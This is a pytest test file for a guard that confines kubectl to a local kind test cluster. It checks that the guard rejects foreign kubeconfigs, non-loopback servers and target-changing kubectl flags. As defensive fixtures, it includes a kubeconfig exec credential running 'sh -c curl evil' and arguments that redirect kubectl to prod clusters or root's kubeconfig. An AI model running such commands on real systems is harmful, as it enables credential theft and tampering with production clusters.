import pytest
import yaml

from k8sdoctest.live.guard import GuardError, check

NAME = "k8sdoctest-calico-abc123"


def kubeconfig(path, contexts, current, server="https://127.0.0.1:40123", user=None):
    path.write_text(yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": current,
        "contexts": [{"name": c, "context": {"cluster": c, "user": c}} for c in contexts],
        "clusters": [{"name": c, "cluster": {"server": server, "certificate-authority-data": "Q0E="}} for c in contexts],
        "users": [{"name": c, "user": user or {"client-certificate-data": "Yw=="}} for c in contexts],
    }))
    return path


def test_own_kubeconfig_is_accepted(tmp_path):
    check(kubeconfig(tmp_path / "kubeconfig", [f"kind-{NAME}"], f"kind-{NAME}"), tmp_path, NAME)


def test_foreign_kubeconfig_outside_the_run_dir_is_refused(tmp_path):
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    foreign = kubeconfig(tmp_path / "config", [f"kind-{NAME}"], f"kind-{NAME}")  # e.g. ~/.kube/config
    with pytest.raises(GuardError, match="not inside this run's directory"):
        check(foreign, run_dir, NAME)


def test_other_current_context_or_extra_context_is_refused(tmp_path):
    with pytest.raises(GuardError, match="current context is 'prod'"):
        check(kubeconfig(tmp_path / "a", ["prod", f"kind-{NAME}"], "prod"), tmp_path, NAME)
    with pytest.raises(GuardError, match="also holds context 'prod'"):
        check(kubeconfig(tmp_path / "b", [f"kind-{NAME}", "prod"], f"kind-{NAME}"), tmp_path, NAME)


def test_cluster_without_the_prefix_is_refused(tmp_path):
    with pytest.raises(GuardError, match="prefix"):
        check(kubeconfig(tmp_path / "c", ["kind-kind"], "kind-kind"), tmp_path, "kind")


def test_unreadable_kubeconfig_is_refused(tmp_path):
    (tmp_path / "k").write_text("{not yaml")
    with pytest.raises(GuardError, match="cannot read"):
        check(tmp_path / "k", tmp_path, NAME)


def test_every_kubectl_call_goes_through_the_guard(tmp_path):
    from k8sdoctest.live.cluster import LiveCluster
    from k8sdoctest.live.pins import Pins, Timeouts

    kubeconfig(tmp_path / "kubeconfig", ["prod"], "prod")
    cluster = LiveCluster("calico", NAME, tmp_path, "/bin/false", Pins(), Timeouts())
    with pytest.raises(GuardError):
        cluster.run("get", "pods")
    assert cluster.env["KUBECONFIG"] == str(tmp_path / "kubeconfig")


@pytest.mark.parametrize("server", ["https://prod.example.com:6443", "https://10.0.0.1:6443", "https://localhost.evil.com"])
def test_a_server_off_loopback_is_refused(tmp_path, server):
    """Security review 3: the guard checked names only; a kind-named context can point anywhere."""
    with pytest.raises(GuardError, match="not a kind cluster on loopback"):
        check(kubeconfig(tmp_path / "k", [f"kind-{NAME}"], f"kind-{NAME}", server=server), tmp_path, NAME)


def test_set_cluster_after_creation_is_refused(tmp_path):
    """`kubectl config set-cluster kind-… --server=…` after the run pinned the cluster it created."""
    path = kubeconfig(tmp_path / "kubeconfig", [f"kind-{NAME}"], f"kind-{NAME}")
    check(path, tmp_path, NAME)  # right after `kind create`: pins server and CA
    kubeconfig(path, [f"kind-{NAME}"], f"kind-{NAME}", server="https://127.0.0.1:9999")
    with pytest.raises(GuardError, match="not the cluster this run created"):
        check(path, tmp_path, NAME)
    kubeconfig(path, [f"kind-{NAME}"], f"kind-{NAME}", server="https://prod.example.com")
    with pytest.raises(GuardError, match="loopback"):
        check(path, tmp_path, NAME)


def test_a_credential_command_is_refused(tmp_path):
    user = {"exec": {"command": "sh", "args": ["-c", "curl evil"], "apiVersion": "client.authentication.k8s.io/v1"}}
    with pytest.raises(GuardError, match="credential command"):
        check(kubeconfig(tmp_path / "k", [f"kind-{NAME}"], f"kind-{NAME}", user=user), tmp_path, NAME)


@pytest.mark.parametrize("args", [
    ["--kubeconfig=/root/.kube/config", "get", "pods"], ["--server=https://prod", "--token=t", "get", "pods"],
    ["--context", "prod", "get", "pods"], ["get", "pods", "--cluster", "prod"], ["--user=admin", "get", "pods"],
    ["-s", "https://prod", "get", "pods"], ["config", "set-cluster", f"kind-{NAME}", "--server=https://prod"],
    ["config", "use-context", "prod"],
])
def test_target_changing_kubectl_calls_are_refused(args):
    from k8sdoctest.live.guard import refused_args

    assert refused_args(args)


def test_ordinary_kubectl_calls_pass():
    from k8sdoctest.live.guard import refused_args

    assert refused_args(["get", "pods", "-n", "kube-system", "-o", "wide"]) is None
    assert refused_args(["logs", "deploy/x", "--since=1h"]) is None
